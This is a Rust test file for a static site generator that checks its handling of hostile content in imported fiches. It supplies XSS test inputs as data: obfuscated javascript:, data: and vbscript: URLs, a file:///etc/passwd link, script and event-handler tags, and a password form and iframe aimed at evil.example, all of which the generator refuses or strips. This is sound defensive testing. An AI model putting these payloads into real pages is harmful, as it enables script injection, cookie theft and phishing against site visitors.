//! Hostile content, on the real binary: fiches from outside the ministry may try to ship
//! script on its domain. A URL that is not http, https, mailto, tel or an address of the site
//! is an error at its line and nothing is published; raw HTML that could run, frame, submit
//! or restyle is removed, with a warning at its line; a raw-HTML problem is reported in the
//! content file, never in the theme.

use crate::common::{DATE, TestSite, tree};
use scraper::{Html, Selector};

const FICHE: &str = "---\ntitle: Ada\nmission: Aider\nincubator: culture\ncontact: ada@beta.gouv.fr\n\
                     phases:\n  - name: investigation\n    start: 2024-01-15\n";

/// A one-startup site whose fiche has `front` in its front matter and `body` as its body.
fn site_with_fiche(front: &str, body: &str) -> TestSite {
    let site = TestSite::minimal();
    site.write("content/startups/ada.md", &format!("{FICHE}{front}---\n{body}"));
    site
}

/// Every `error:` and `warning:` of a run, with where it points: `file:line:col message`.
fn problems(stderr: &str) -> Vec<String> {
    let lines: Vec<&str> = stderr.lines().collect();
    let mut out = Vec::new();
    for (i, line) in lines.iter().enumerate() {
        let Some(message) = line
            .strip_prefix("error: ")
            .or_else(|| line.strip_prefix("warning: "))
        else {
            continue;
        };
        let at = lines
            .get(i + 1)
            .and_then(|l| l.trim_start().strip_prefix("--> "))
            .unwrap_or("");
        let kind = if line.starts_with("error") {
            "error"
        } else {
            "warning"
        };
        out.push(format!("{kind} {at} {message}"));
    }
    out
}

/// Every published file, as text.
fn published(site: &TestSite) -> String {
    tree(&site.root().join("public"))
        .into_values()
        .map(|bytes| String::from_utf8_lossy(&bytes).into_owned())
        .collect()
}

fn not_allowed(scheme: &str) -> String {
    format!(
        "the URL scheme `{scheme}:` is not allowed, only http, https, mailto, tel and addresses of the site"
    )
}

/// Builds, then checks: both refuse, with the same errors, and nothing is written.
fn assert_refused(site: &TestSite) -> Vec<String> {
    let build = site.run(&["build", "--date", DATE]);
    assert_eq!(build.code, 1, "{}", build.stderr);
    assert!(!site.root().join("public").exists(), "something was published");
    let check = site.run(&["check", "--date", DATE]);
    assert_eq!(check.code, 1, "{}", check.stderr);
    let errors = |stderr: &str| -> Vec<String> {
        problems(stderr)
            .into_iter()
            .filter(|p| p.starts_with("error"))
            .collect()
    };
    assert_eq!(errors(&build.stderr), errors(&check.stderr));
    errors(&check.stderr)
}

#[test]
fn refused_urls_in_front_matter_are_errors_and_nothing_is_published() {
    let site = site_with_fiche(
        "link: javascript:alert(document.domain)\nrepository: ' JaVaScRiPt:alert(1)'\n\
         stats_url: \"java\\tscript:alert(1)\"\nimpact_url: data:text/html;base64,PHNjcmlwdD4=\n\
         budget_url: vbscript:msgbox\ndashlord_url: file:///etc/passwd\n",
        "Texte.\n",
    );
    site.write(
        "content/organisations/mc.md",
        "---\nname: Ministère\nwebsite: \"\\x01javascript:alert(1)\"\n---\n",
    );
    let errors = assert_refused(&site);
    let expected = [
        ("content/organisations/mc.md:3:10", "website", "javascript"),
        ("content/startups/ada.md:9:7", "link", "javascript"),
        ("content/startups/ada.md:10:13", "repository", "javascript"),
        ("content/startups/ada.md:11:12", "stats_url", "javascript"),
        ("content/startups/ada.md:12:13", "impact_url", "data"),
        ("content/startups/ada.md:13:13", "budget_url", "vbscript"),
        ("content/startups/ada.md:14:15", "dashlord_url", "file"),
    ];
    let expected: Vec<String> = expected
        .iter()
        .map(|(at, key, scheme)| format!("error {at} `{key}`: {}", not_allowed(scheme)))
        .collect();
    assert_eq!(errors, expected);
    // The help says what to write instead.
    let run = site.run(&["check", "--date", DATE]);
    assert!(
        run.stderr.contains("= help: such an address runs code"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr.contains("write a web address (`https://...`)"),
        "{}",
        run.stderr
    );
}

#[test]
fn imported_content_builds_with_refused_urls_left_out() {
    let site = site_with_fiche(
        "link: javascript:alert(1)\nstats_url: https://stats.exemple.fr/\n",
        "[Voir](javascript:alert(2)) et [le site](https://exemple.fr/).\n\n<a href=\"jav&#x61;script:alert(3)\">lien</a>\n",
    );
    site.write("site.yaml", "title: Essai\ntheme: test\ncontent_links: warning\n");
    let run = site.build(&["--no-minify"]);
    let mut warnings = problems(&run.stderr);
    warnings.retain(|w| w.contains("URL scheme"));
    assert_eq!(warnings.len(), 3, "{warnings:?}");
    assert!(
        warnings
            .iter()
            .all(|w| w.starts_with("warning") && w.contains(&not_allowed("javascript")))
    );
    let all = published(&site);
    assert!(
        !all.to_ascii_lowercase().contains("javascript"),
        "a refused URL was published"
    );
    let page = site.read("public/startups/ada/index.html");
    assert!(
        page.contains("<p>Voir et <a href=\"https://exemple.fr/\""),
        "{page}"
    );
    assert!(page.contains("<a>lien</a>"), "{page}");
    assert!(
        site.read("public/api/startups.json")
            .contains("https://stats.exemple.fr/")
    );
}

#[test]
fn refused_urls_in_markdown_are_errors_at_their_place() {
    let body = "[a](javascript:alert(1))\n\
                [b](JAVASCRIPT:alert(1) \"titre\")\n\
                [c](jav&#x61;script:alert(1))\n\
                [d](<java\tscript:alert(1)>)\n\
                ![e](data:image/svg+xml;base64,PHN2Zz4=)\n\
                <javascript:alert(1)>\n\
                [f][ref]\n\n\
                [ref]: vbscript:msgbox\n\n\
                <a href=\"&#106;avascript:alert(1)\">g</a> <img src=\"data:image/png,x\" alt=\"h\">\n\n\
                <img alt=\"i\" srcset=\"https://exemple.fr/a.png 1x, javascript:alert(1) 2x\">\n";
    let site = site_with_fiche("", body);
    let errors = assert_refused(&site);
    let at = |line: usize, col: usize, what: &str, scheme: &str| {
        format!(
            "error content/startups/ada.md:{line}:{col} {what}: {}",
            not_allowed(scheme)
        )
    };
    assert_eq!(
        errors,
        [
            at(10, 5, "link", "javascript"),
            at(11, 5, "link", "javascript"),
            at(12, 1, "link", "javascript"),
            at(13, 6, "link", "javascript"),
            at(14, 6, "image", "data"),
            at(15, 2, "link", "javascript"),
            at(18, 8, "link", "vbscript"),
            at(20, 4, "`href` of `<a>`", "javascript"),
            at(20, 47, "`src` of `<img>`", "data"),
            at(22, 14, "`srcset` of `<img>`", "javascript"),
        ]
    );
}

#[test]
fn hostile_raw_html_is_removed_with_a_warning_at_its_line() {
    let body = "## Présentation\n\n\
                <script>alert(document.cookie)</script>\n\n\
                Texte <img src=\"https://exemple.fr/a.png\" alt=\"\" onerror=alert(1)> et <svg onload=alert(1)><circle r=1 /></svg>.\n\n\
                <iframe src=\"https://evil.example/\" style=\"position:fixed\"></iframe>\n\n\
                <form action=\"https://evil.example/\"><input name=\"mdp\" type=\"password\"><button>OK</button></form>\n\n\
                <div class=\"fr-callout\" onmouseover=\"alert(1)\"><p>Encadré</p></div>\n\n\
                <object data=\"/x.swf\"></object><embed src=\"/x.swf\"><base href=\"https://evil.example/\">\n\n\
                <details><summary>Plus</summary>\n\nTexte *caché*.\n\n</details>\n\n\
                ## Titre {onclick=alert(1)}\n\n\
                <style>body{display:none}</style>\n";
    let site = site_with_fiche("", body);
    // Fourteen warnings in one file: past the terminal's ten per file, so all of them asked for.
    let run = site.build(&["--no-minify", "--verbose"]);
    let at =
        |line: usize, col: usize, what: &str| format!("warning content/startups/ada.md:{line}:{col} {what}");
    let removed = |what: &str| format!("raw HTML: the element `<{what}>` was removed");
    let attribute =
        |name: &str, of: &str| format!("raw HTML: the attribute `{name}` of `<{of}>` was removed");
    let mut warnings = problems(&run.stderr);
    warnings.retain(|w| !w.contains("without alternative text"));
    assert_eq!(
        warnings,
        [
            at(12, 1, &(removed("script") + " with its content")),
            at(14, 50, &attribute("onerror", "img")),
            at(14, 71, &removed("svg")),
            at(14, 92, &removed("circle")),
            at(16, 1, &(removed("iframe") + " with its content")),
            at(18, 1, &removed("form")),
            at(18, 38, &removed("input")),
            at(18, 72, &removed("button")),
            at(20, 25, &attribute("onmouseover", "div")),
            at(22, 1, &removed("object")),
            at(22, 32, &removed("embed")),
            at(22, 52, &removed("base")),
            at(30, 1, "the heading attribute `onclick` was removed"),
            at(32, 1, &(removed("style") + " with its content")),
        ]
    );
    let page = site.read("public/startups/ada/index.html");
    let doc = Html::parse_document(&page);
    let main = doc.select(&Selector::parse("main").unwrap()).next().unwrap();
    let inner = main.inner_html();
    for gone in [
        "<script", "<svg", "<iframe", "<form", "<input", "<object", "<embed", "<base", "<style", "alert(",
    ] {
        assert!(!inner.contains(gone), "{gone} in {inner}");
    }
    for e in main.descendants().filter_map(scraper::ElementRef::wrap) {
        for (name, _) in e.value().attrs() {
            assert!(!name.starts_with("on") && name != "style", "`{name}` in {inner}");
        }
    }
    // The structure editors write is kept.
    assert!(
        inner.contains("<div class=\"fr-callout\"><p>Encadré</p></div>"),
        "{inner}"
    );
    assert!(inner.contains("<details><summary>Plus</summary>"), "{inner}");
    assert!(
        inner.contains("<p>Texte <em>caché</em>.</p>\n</details>"),
        "{inner}"
    );
    assert!(inner.contains("<h2 id=\"titre\">Titre</h2>"), "{inner}");
    let img = main.select(&Selector::parse("p img").unwrap()).next().unwrap();
    let mut attrs: Vec<(&str, &str)> = img.value().attrs().collect();
    attrs.sort();
    assert_eq!(attrs, [("alt", ""), ("src", "https://exemple.fr/a.png")]);
}

/// Today's bug: `<style>` alone in a page swallowed the rest of it, and the check blamed the
/// theme (`base.html`: the footer's anchor was gone). Every such element, and `<!--`.
#[test]
fn an_unclosed_element_is_reported_in_the_content_never_in_the_theme() {
    for (opening, sanitized) in [
        (
            "<style>",
            "raw HTML: the element `<style>` was removed with its content",
        ),
        (
            "<script>",
            "raw HTML: the element `<script>` was removed with its content",
        ),
        (
            "<textarea>",
            "raw HTML: the element `<textarea>` was removed with its content",
        ),
        (
            "<title>",
            "raw HTML: the element `<title>` was removed with its content",
        ),
        (
            "<!--",
            "raw HTML: a tag or a comment is not finished at the end of its HTML block, it was left out",
        ),
        (
            "<xmp>",
            "raw HTML: the element `<xmp>` was removed with its content",
        ),
    ] {
        let site = TestSite::minimal();
        site.write(
            "content/a-propos.md",
            &format!("---\ntitle: À propos\n---\n[Pied de page](#footer)\n\n{opening}\n\nTexte après.\n"),
        );
        let run = site.run(&["check", "--date", DATE]);
        assert_eq!(run.code, 0, "{opening}: {}", run.stderr);
        assert_eq!(
            problems(&run.stderr),
            [format!("warning content/a-propos.md:6:1 {sanitized}")],
            "{opening}"
        );
        // Trusted: an error, at the same place, and the theme still not involved.
        site.write("site.yaml", "title: Essai\ntheme: test\nraw_html: trusted\n");
        let run = site.run(&["check", "--date", DATE]);
        let found = problems(&run.stderr);
        assert!(!run.stderr.contains("templates/"), "{opening}: {}", run.stderr);
        assert!(
            found
                .iter()
                .all(|p| p.contains(" content/a-propos.md:6:1 raw HTML: ")),
            "{opening}: {found:?}"
        );
        if opening != "<!--" {
            assert_eq!(run.code, 1, "{opening}: {}", run.stderr);
            assert_eq!(
                found,
                [format!(
                    "error content/a-propos.md:6:1 raw HTML: `{opening}` is not closed before the end of its HTML block"
                )]
            );
        }
    }
}

#[test]
fn trusted_raw_html_is_published_as_written_but_urls_still_follow_the_rule() {
    let body = "<iframe src=\"https://www.dailymotion.com/embed/video/x\" title=\"Vidéo\" allowfullscreen=\"\"></iframe>\n\n\
                <form action=\"/recherche/\"><input name=\"q\"></form>\n\n<p style=\"color: red\" onclick=\"go()\">rouge</p>\n";
    let site = site_with_fiche("", body);
    site.write("site.yaml", "title: Essai\ntheme: test\nraw_html: trusted\n");
    let run = site.build(&["--no-minify"]);
    assert!(problems(&run.stderr).is_empty(), "{}", run.stderr);
    let page = site.read("public/startups/ada/index.html");
    for kept in body.split("\n\n") {
        assert!(page.contains(kept.trim_end()), "{kept} not in {page}");
    }
    site.write(
        "content/a-propos.md",
        "---\ntitle: À propos\n---\n<a href=\"javascript:go()\">x</a>\n",
    );
    std::fs::remove_dir_all(site.root().join("public")).unwrap();
    let errors = assert_refused(&site);
    assert_eq!(
        errors,
        [format!(
            "error content/a-propos.md:4:4 `href` of `<a>`: {}",
            not_allowed("javascript")
        )]
    );
}

#[test]
fn refused_urls_in_site_settings_are_errors() {
    let site = TestSite::minimal();
    site.write(
        "site.yaml",
        "title: Essai\ntheme: test\nmenu:\n  - title: Accueil\n    url: /\n  - title: Piège\n    url: \"javascript:alert(1)\"\n\
         footer:\n  links:\n    - title: Données\n      url: 'data:text/html,x'\n",
    );
    let errors = assert_refused(&site);
    assert_eq!(
        errors,
        [
            format!(
                "error site.yaml:7:10 `menu[1].url`: {}",
                not_allowed("javascript")
            ),
            format!(
                "error site.yaml:11:12 `footer.links[0].url`: {}",
                not_allowed("data")
            ),
        ]
    );
}

#[test]
fn inline_scripts_the_page_policy_blocks_are_reported() {
    let site = TestSite::minimal();
    let base = std::fs::read_to_string(site.root().join("themes/test/templates/base.html")).unwrap();
    let policy =
        "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'self'; script-src 'self'\">\n";
    let with_script = base.replacen(
        "<meta charset=\"utf-8\">\n",
        &format!("<meta charset=\"utf-8\">\n{policy}<script>\ndocument.documentElement.dataset.js = 'oui';\n</script>\n"),
        1,
    );
    site.write("templates/base.html", &with_script);
    site.write("site.yaml", "title: Essai\ntheme: test\nraw_html: trusted\n");
    site.write(
        "content/a-propos.md",
        "---\ntitle: À propos\n---\nTexte.\n\n<script>\nsuivre('a-propos');\n</script>\n",
    );
    let run = site.run(&["check", "--date", DATE]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let message =
        "an inline script would not run: the page's Content-Security-Policy says `script-src 'self'`";
    assert_eq!(
        problems(&run.stderr),
        [
            format!("warning content/a-propos.md:7:1 {message}"),
            format!("error templates/base.html:7:1 {message}"),
        ]
    );
    assert!(
        run.stderr
            .contains("move the script to a file of the theme's `static/` folder")
    );
    // Without the inline script, nothing to say.
    site.write(
        "templates/base.html",
        &base.replacen(
            "<meta charset=\"utf-8\">\n",
            &format!("<meta charset=\"utf-8\">\n{policy}"),
            1,
        ),
    );
    site.write("content/a-propos.md", "---\ntitle: À propos\n---\nTexte.\n");
    let run = site.run(&["check", "--date", DATE]);
    assert_eq!(run.code, 0, "{}", run.stderr);
}
